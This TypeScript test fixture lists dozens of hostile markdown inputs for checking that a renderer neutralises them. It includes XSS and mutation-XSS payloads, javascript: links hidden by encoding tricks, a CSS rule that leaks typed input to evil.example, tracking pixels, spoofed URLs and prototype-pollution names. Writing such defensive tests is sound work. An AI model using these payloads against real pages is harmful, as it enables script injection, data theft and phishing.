export interface HostileInput {
  readonly name: string;
  readonly markdown: string;
}

const MGLYPH =
  '<math><mtext><table><mglyph><style><!--</style><img title="--><img src=x onerror=__pwned=1>">';

/**
 * Plans that try to run a script, to reach another host, to take the place of something on the page, or to hide. Every
 * script sets `window.__pwned`. None of them may do anything, and every word of them must stay readable.
 */
export const hostileInputs: readonly HostileInput[] = [
  { name: 'script element', markdown: '<script>window.__pwned=1</script>' },
  { name: 'script element over two lines', markdown: '<scr\nipt>__pwned=1</script>' },
  { name: 'picture with an error handler', markdown: '<img src=x onerror=__pwned=1>' },
  { name: 'picture with slashes for spaces', markdown: '<img/src=x/onerror=__pwned=1>' },
  { name: 'svg with a load handler', markdown: '<svg onload=__pwned=1>' },
  {
    name: 'svg that animates a link',
    markdown:
      '<svg><a><animate attributeName=href values=javascript:__pwned=1 /><text y=20>x</text></a></svg>',
  },
  {
    name: 'svg that uses a data document',
    markdown: '<svg><use href="data:image/svg+xml,<svg id=x onload=__pwned=1>#x"></svg>',
  },
  { name: 'frame with a document', markdown: '<iframe srcdoc="<script>parent.__pwned=1</script>">' },
  { name: 'frame with a script address', markdown: '<iframe src="javascript:parent.__pwned=1">' },
  {
    name: 'object with a data document',
    markdown: '<object data="data:text/html,<script>top.__pwned=1</script>">',
  },
  { name: 'marquee with a start handler', markdown: '<marquee onstart=__pwned=1>x</marquee>' },
  { name: 'details with a toggle handler', markdown: '<details open ontoggle=__pwned=1>' },
  { name: 'input that takes the focus', markdown: '<input autofocus onfocus=__pwned=1>' },
  { name: 'video source with an error handler', markdown: '<video><source onerror=__pwned=1>' },
  { name: 'form with a script action', markdown: '<form action=javascript:__pwned=1><button>x' },
  { name: 'button with a script action', markdown: '<button formaction=javascript:__pwned=1>x</button>' },
  {
    name: 'meta refresh',
    markdown: '<meta http-equiv=refresh content="0;url=javascript:__pwned=1">',
  },
  { name: 'base address', markdown: '<base href=https://evil.example/>' },
  { name: 'foreign style sheet', markdown: '<link rel=stylesheet href=//evil.example/x.css>' },
  {
    name: 'style element',
    markdown: "<style>body{display:none}@import '//evil.example'</style>",
  },
  {
    name: 'style attribute',
    markdown: '<p style="position:fixed;inset:0;background:url(//evil.example)">',
  },
  {
    name: 'style that reports what is typed',
    markdown: '<style>input[value^=a]{background:url(//evil.example/a)}</style>',
  },
  { name: 'template element', markdown: '<template><img src=x onerror=__pwned=1></template>' },
  {
    name: 'noscript that closes in an attribute',
    markdown: '<noscript><p title="</noscript><img src=x onerror=__pwned=1>">',
  },
  { name: 'mathml that reparses', markdown: MGLYPH },
  {
    name: 'svg style that reparses',
    markdown: '<svg></p><style><a id="</style><img src=x onerror=__pwned=1>">',
  },
  {
    name: 'nested forms that reparse',
    markdown: '<form><math><mtext></form><form><mglyph><style></math><img src onerror=__pwned=1>',
  },
  { name: 'mathml below 512 elements', markdown: `${'<div>'.repeat(512)}${MGLYPH}` },
  { name: 'comment that ends early', markdown: '<!--><img src=x onerror=__pwned=1>-->' },
  { name: 'character data section', markdown: '<![CDATA[><img src=x onerror=__pwned=1>]]>' },
  {
    name: 'processing instruction',
    markdown: '<?xml-stylesheet href="javascript:__pwned=1"?>',
  },
  { name: 'customized element', markdown: '<div is=x onclick=__pwned=1>' },
  { name: 'popover button', markdown: '<button popovertarget=x onbeforetoggle=__pwned=1>' },
  { name: 'script link', markdown: '[x](javascript:__pwned=1)' },
  { name: 'script link in mixed case', markdown: '[x](JaVaScRiPt:__pwned=1)' },
  { name: 'script link with a written colon', markdown: '[x](javascript&colon;__pwned=1)' },
  { name: 'script link with a written letter', markdown: '[x](&#106;avascript:__pwned=1)' },
  { name: 'script link with a tab', markdown: '[x](java&#9;script:__pwned=1)' },
  { name: 'script link with a line break', markdown: '[x](<java&#10;script:__pwned=1>)' },
  { name: 'script link behind a control character', markdown: '[x](&#1;javascript:__pwned=1)' },
  { name: 'script link behind a wide space', markdown: '[x](&#12288;javascript:__pwned=1)' },
  { name: 'script link with a line separator', markdown: '[x](java&#8232;script:__pwned=1)' },
  { name: 'script link in angle brackets', markdown: '[x](<javascript:__pwned=1>)' },
  { name: 'script link by reference', markdown: '[x][r]\n\n[r]: javascript:__pwned=1' },
  { name: 'picture with a script address', markdown: '![x](javascript:__pwned=1)' },
  { name: 'script autolink', markdown: '<javascript:__pwned=1>' },
  {
    name: 'link to a data document',
    markdown: '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  },
  {
    name: 'picture from a data document',
    markdown: '![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)',
  },
  {
    name: 'links of every other dangerous kind',
    markdown: [
      '[a](vbscript:msgbox)',
      '[b](file:///etc/passwd)',
      '[c](blob:https://evil.example/1)',
      '[d](filesystem:https://evil.example/2)',
      '[e](intent://evil.example#Intent;end)',
      '[f](view-source:https://evil.example)',
    ].join('\n'),
  },
  { name: 'link without a protocol', markdown: '[x](//evil.example)' },
  { name: 'link with backslashes', markdown: '[x](https:\\\\evil.example)' },
  {
    name: 'link whose user name looks like a host',
    markdown: '[bank](https://bank.example@evil.example/)',
  },
  { name: 'link with a foreign letter', markdown: '[x](https://\u0430pple.example)' },
  {
    name: 'destination that breaks out of its attribute',
    markdown: '[x](https://a "onmouseover=__pwned=1 x=")',
  },
  { name: 'description that breaks out of its attribute', markdown: '![" onerror=__pwned=1 x="](x)' },
  { name: 'quotes in a destination', markdown: '![a](x"onerror="__pwned=1)' },
  {
    name: 'language that breaks out of its attribute',
    markdown: '```js" onmouseover="__pwned=1\nlet a;\n```',
  },
  { name: 'language that adds classes', markdown: '```js&#x20;fixed&#x20;inset-0\nlet a;\n```' },
  {
    name: 'headings named like parts of the page',
    markdown: '## location\n\n## cookie\n\n## getElementById\n\n## body',
  },
  {
    name: 'footnotes named like parts of every object',
    markdown:
      'a[^__proto__] b[^constructor] c[^toString]\n\n[^__proto__]: one\n\n[^constructor]: two\n\n[^toString]: three',
  },
  {
    name: 'references named like parts of every object',
    markdown: '[p][__proto__] [q][hasOwnProperty]\n\n[__proto__]: x\n[hasOwnProperty]: x',
  },
  {
    name: 'elements named like parts of the page',
    markdown: '<a name=createElement>one</a>\n\n<form id=x><input name=attributes>',
  },
  { name: 'tracking pixel', markdown: '![](https://evil.example/p.gif?u=1)' },
  { name: 'link that reaches back', markdown: '<a href=//evil.example target=_blank>' },
  {
    name: 'diagram with a script click',
    markdown: '```mermaid\ngraph TD;A-->B;click A "javascript:__pwned=1"\n```',
  },
  {
    name: 'diagram with a picture in a label',
    markdown: '```mermaid\ngraph TD;A["<img src=x onerror=__pwned=1>"]\n```',
  },
  { name: 'formula with a script link', markdown: '$\\href{javascript:__pwned=1}{x}$' },
  {
    name: 'front matter named like a part of every object',
    markdown: '---\n__proto__: {polluted: 1}\n---\n',
  },
];
